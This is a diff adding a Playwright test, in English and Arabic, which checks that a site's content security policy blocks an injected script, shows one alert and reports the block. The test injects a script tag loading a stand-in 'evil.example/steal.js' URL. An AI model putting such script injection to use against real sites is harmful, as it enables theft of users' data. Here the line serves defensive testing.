@@ -1,5 +1,6 @@
 import { expect, type Page } from '@playwright/test';
 import { card } from '#tests/support/browser/card.ts';
+import { word } from '#tests/support/browser/dictionary.ts';
 import { test } from '#tests/support/browser/test.ts';
 import { walletButton } from '#tests/support/browser/wallet.ts';
 
@@ -68,3 +69,32 @@ test('what the policy blocks is reported to the site, without an address or a te
   });
   expect((await report.response())?.status()).toBe(200);
 });
+
+for (const [locale, path] of [
+  ['en', '/faq'],
+  ['ar', '/ar/faq'],
+] as const)
+  test(`a blocked script is named above the page once, with the way to check the site, on ${path}`, async ({
+    page,
+    watch,
+  }) => {
+    watch.allow(/content security policy/i);
+    watch.allowHosts(['evil.example']);
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const inject = () =>
+      page.evaluate(() => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.example/steal.js';
+        document.body.append(script);
+      });
+    await inject();
+    const notice = page.getByRole('alert');
+    await expect(notice).toContainText(word(locale, 'error.blocked'));
+    const again = page.waitForRequest('**/api/csp-report');
+    await inject();
+    await again;
+    await expect(notice).toHaveCount(1);
+    await notice.getByRole('link', { name: word(locale, 'error.blocked.check') }).click();
+    await expect(page).toHaveURL(locale === 'en' ? '/verify' : '/ar/verify');
+  });
